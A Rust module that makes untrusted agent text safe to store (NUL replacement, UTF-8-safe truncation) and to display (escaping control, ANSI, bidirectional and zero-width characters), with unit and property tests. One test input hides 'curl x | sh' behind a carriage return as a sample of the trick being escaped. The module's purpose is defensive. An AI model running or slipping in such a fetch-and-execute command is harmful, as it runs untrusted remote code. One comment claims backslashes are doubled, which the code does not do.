//! Text from untrusted hands (agents, tasks, webhook senders): made
//! storable before it reaches the database, and made visible before a
//! person reads it.
//!
//! Two different jobs, kept apart on purpose:
//! * [`storable`] is applied once, at the edge where an agent's text comes
//!   in. PostgreSQL cannot store a NUL in `text`, and one such character
//!   used to wedge the manager's event writer for every agent; so NUL is
//!   replaced by a visible symbol (U+2400 ␀) and the length is bounded.
//! * [`visible`] is applied where a person looks (CLI, `shepherd top`, MCP,
//!   the console): control characters, ANSI escapes and bidirectional
//!   overrides are shown as escapes, so what a person approves is what
//!   runs, with no tail hidden by `\r`, a colour code or a right-to-left
//!   override.

use std::borrow::Cow;
use std::fmt::Write;

/// What a NUL becomes in stored text: a symbol a person can see.
pub const NUL_SYMBOL: char = '\u{2400}';

/// Cuts `text` to at most `max` bytes, on a character boundary.
pub fn truncate_utf8(text: &mut String, max: usize) {
    if text.len() > max {
        let mut end = max;
        while !text.is_char_boundary(end) {
            end -= 1;
        }
        text.truncate(end);
    }
}

/// `text` as it can be stored: NUL replaced by [`NUL_SYMBOL`], then cut to
/// at most `max` bytes. Free of allocation when there is nothing to do.
pub fn storable(mut text: String, max: usize) -> String {
    if text.contains('\0') {
        text = text.replace('\0', "\u{2400}");
    }
    truncate_utf8(&mut text, max);
    text
}

/// True if a person could be misled by how `c` shows (or does not show) on
/// a terminal or web page: control characters (but newline and tab), and
/// the invisible formatting characters that reorder or hide text.
fn misleading(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t')
        || matches!(c,
            // Bidirectional embeddings, overrides and isolates.
            '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{061C}'
            // Zero-width characters and the byte-order mark.
            | '\u{200B}'..='\u{200D}' | '\u{2060}' | '\u{FEFF}'
            // Line and paragraph separators some terminals honour.
            | '\u{2028}' | '\u{2029}')
}

/// `text` as a person should see it: every misleading character written as
/// an escape (`\r`, `\x1b`, `\u{202e}`), a backslash doubled only where it
/// would otherwise read as one of those escapes. Borrowed when `text` is
/// already plain.
pub fn visible(text: &str) -> Cow<'_, str> {
    if !text.chars().any(misleading) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if !misleading(c) {
            out.push(c);
            continue;
        }
        // Writing to a String cannot fail.
        let _ = match c {
            '\r' => out.write_str("\\r"),
            '\0' => out.write_str("\\0"),
            c if (c as u32) < 0x80 => write!(out, "\\x{:02x}", c as u32),
            c => write!(out, "\\u{{{:x}}}", c as u32),
        };
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn storable_replaces_nul_and_cuts_on_a_boundary() {
        assert_eq!(storable("a\0b".into(), 100), "a\u{2400}b");
        assert_eq!(storable("aé".repeat(10), 4), "aéa");
        assert_eq!(storable("plain".into(), 100), "plain");
        assert!(storable("\0".repeat(100), 10).len() <= 10);
    }

    #[test]
    fn visible_escapes_what_hides_text() {
        assert_eq!(visible("git status"), "git status");
        assert_eq!(visible("ok\nnext\tcol"), "ok\nnext\tcol");
        assert_eq!(
            visible("git status\r; curl x | sh"),
            "git status\\r; curl x | sh"
        );
        assert_eq!(visible("\u{1b}[31mred"), "\\x1b[31mred");
        assert_eq!(visible("abc\u{202e}fed"), "abc\\u{202e}fed");
        assert_eq!(visible("zero\u{200b}width"), "zero\\u{200b}width");
        assert_eq!(visible("a\0b"), "a\\0b");
        assert!(matches!(visible("plain"), Cow::Borrowed(_)));
    }
}

#[cfg(test)]
mod properties {
    use proptest::prelude::*;

    proptest! {
        /// Whatever comes in, what is shown has no character that could
        /// hide or reorder text, and what is stored has no NUL and keeps
        /// its bound.
        #[test]
        fn shown_text_hides_nothing(text in any::<String>(), max in 0usize..64) {
            let shown = super::visible(&text);
            prop_assert!(!shown.chars().any(super::misleading));
            let stored = super::storable(text, max);
            prop_assert!(!stored.contains('\0'));
            prop_assert!(stored.len() <= max);
        }
    }
}
